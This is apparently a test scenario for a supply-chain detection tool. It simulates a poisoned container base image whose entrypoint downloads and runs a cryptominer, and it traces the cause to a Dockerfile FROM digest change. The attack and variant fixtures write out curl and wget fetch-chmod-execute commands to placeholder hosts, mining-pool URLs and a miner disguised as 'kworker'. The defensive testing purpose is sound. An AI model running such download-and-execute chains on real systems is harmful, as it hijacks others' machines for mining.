"""A base image that was poisoned: its entry script starts what nobody wrote. Traced to the Dockerfile's FROM."""

from everyday import history
from harness import AT, BUILDER, HOUR, LATER, MINUTE, SECOND, Change, Scenario, line, sign
from rawlogs import Raw

from lemnis.app import attest
from lemnis.graph import attestation

BASE = "registry.example/base/python"
OLD, BAD, NEXT = ("sha256:" + two * 32 for two in ("1a", "bd", "2c"))
BEFORE, IMAGE, AFTER = ("sha256:" + two * 32 for two in ("c1", "c2", "c3"))
DOCKERFILE = f"""\
FROM node:22@sha256:{"7f" * 32} AS web
WORKDIR /src
COPY web/ .

FROM {BASE}:3.12@{OLD}
WORKDIR /srv
COPY shop/ shop/
COPY --from=web /src web/
USER 10001
CMD ["python3", "-m", "shop"]
"""
_POISONED = DOCKERFILE.replace(OLD, BAD)
_LABELLED = _POISONED.replace("USER 10001\n", "LABEL org.opencontainers.image.title=shop\nUSER 10001\n")
_FIXED = _LABELLED.replace(BAD, NEXT)
_JOBS = f'FROM {BASE}:3.12@{OLD}\nCOPY helpers/ /srv/helpers/\nUSER 10001\nCMD ["python3", "-m", "helpers"]\n'
_TOOLS = f'FROM {BASE}-slim:3.12\nCOPY tools/ /srv/tools/\nUSER 10001\nCMD ["python3", "-m", "tools"]\n'
_WEB = 'ROUTES = {"/": lambda query: "hello"}\n'
ENTRY = "/usr/local/bin/docker-entrypoint.sh"


def prepare(world):
    """Both images are attested, with the base that each build took in."""
    for image, change, base, run in ((BEFORE, "Begin", OLD, "run-1"), (IMAGE, "", BAD, "run-2")):
        statement = attestation.build_statement(
            subject="shop/web", subject_digest=image, builder=BUILDER, invocation=run, repository=world.url,
            commit=world.commits[change] if change else world.deployed, started=AT - 3 * HOUR, finished=AT - 3 * HOUR,
        )  # fmt: skip
        taken = statement["predicate"]["buildDefinition"]["resolvedDependencies"]
        taken.append(
            {
                "uri": f"pkg:docker/base/python@3.12?repository_url={BASE}", "digest": {"sha256": base.partition(":")[2]},
            }
        )  # fmt: skip
        attest.keep(world.workspace, sign(statement))


def ordinary(folder):
    """The service as it was, and its customers."""
    raw = Raw(folder, serial=1)
    _starts(raw, AT - HOUR - MINUTE, "be" * 32, 500, image=BEFORE)
    _asked(raw, AT - HOUR)
    return raw.logs


def attack(folder):
    """It is deployed anew; the entry script of its base fetches a miner and runs it, then the service."""
    raw = Raw(folder, serial=100_000)
    _starts(
        raw, AT - 30 * SECOND, "ad" * 32, 700, image=IMAGE,
        children=(
            ("/usr/bin/nproc",), ("/usr/bin/curl", "-fsSL", "http://198.51.100.90/k", "-o", "/srv/.k"),
            ("/usr/bin/chmod", "+x", "/srv/.k"), ("/srv/.k", "-o", "stratum+tcp://pool.example:3333"),
        ),
        address="198.51.100.90",
    )  # fmt: skip
    return raw.logs


def variant(folder):
    """Another image on the base, in another workload: another miner of another name, from another place."""
    raw = Raw(folder, serial=200_000, node="node-4")
    _starts(
        raw, LATER, "fe" * 32, 900, image="sha256:" + "d4" * 32,
        children=(
            ("/usr/bin/wget", "-qO", "/opt/kworker", "http://192.0.2.77/w"), ("/usr/bin/chmod", "755", "/opt/kworker"),
            ("/opt/kworker", "--url", "stratum+ssl://m.example:443"),
        ),
        address="192.0.2.77",
    )  # fmt: skip
    return raw.logs


def benign_hour(folder):
    """The service on a base that was looked at, a day later."""
    raw = Raw(folder, serial=300_000)
    _starts(raw, LATER - HOUR - MINUTE, "af" * 32, 1500, image=AFTER)
    _asked(raw, LATER - HOUR)
    return raw.logs


def _starts(raw, at, container, pid, *, image, children=(), address=""):
    """A container starts: the entry script of its base, what that does, and the service in its place."""
    raw.container(at - 100, container, pid, image, workload="shop/web")
    raw.starts(at, pid, pid - 1, "/usr/bin/dash", "/bin/sh", ENTRY, "python3", "-m", "shop")
    raw.starts(at + 20, pid + 1, pid, "/usr/bin/id", "id", "-u")
    raw.starts(at + 30, pid + 2, pid, "/usr/bin/mkdir", "mkdir", "-p", "/srv/cache")
    words = [
        [exe if exe.startswith(("/srv", "/opt")) else exe.rpartition("/")[2], *rest]
        for exe, *rest in children
    ]
    if children:
        raw.starts(
            at + 40, pid + 10, pid, "/usr/bin/dash", "/bin/sh", "-c", " && ".join(map(" ".join, words))
        )
    for number, (exe, *_) in enumerate(children, 1):
        raw.starts(at + 40 + 10 * number, pid + 10 + number, pid + 10, exe, *words[number - 1])
        if exe.endswith(("/curl", "/wget")):
            raw.connects(at + 45 + 10 * number, pid + 10 + number, pid + 10, exe, address, 80)
    raw.starts(at + 2 * SECOND, pid, pid - 1, "/usr/local/bin/python3.12", "python3", "-m", "shop")


def _asked(raw, start):
    for number in range(50):
        raw.asks(start + number * MINUTE, f"203.0.113.{number % 20 + 1}", f"/?page={number % 3}")


SCENARIO = Scenario(
    repository="shop",
    changes=history(
        Change(
            "Begin",
            {"shop/__init__.py": "", "shop/web.py": _WEB, "Dockerfile": DOCKERFILE,
             "CODEOWNERS": "* @shop/all\nDockerfile @shop/platform\n"},
        ),
        Change("Newer base", {"Dockerfile": _POISONED}, author="Robin New", name="culprit"),
        near=(
            Change("Jobs of the night", {"jobs/Dockerfile": _JOBS}),
            Change("Tools in an image", {"tools/Dockerfile": _TOOLS}),
            Change("The image says its name", {"Dockerfile": _LABELLED}),
            Change("Where the base comes from", {"docs/base.md": f"# Base\n\nWe build on `{BASE}:3.12`.\n"}),
        ),
        fix=Change("Fix: the base that we looked at", {"Dockerfile": _FIXED}, name="fix"),
    ),
    cause=f"Dockerfile:{line(_LABELLED, BAD)}",
    owner="@shop/platform",
    kind="base image",
    ordinary=ordinary,
    attack=attack,
    variant=variant,
    benign_hour=benign_hour,
    prepare=prepare,
    warns=("new_findings_below_medium",),
)  # fmt: skip
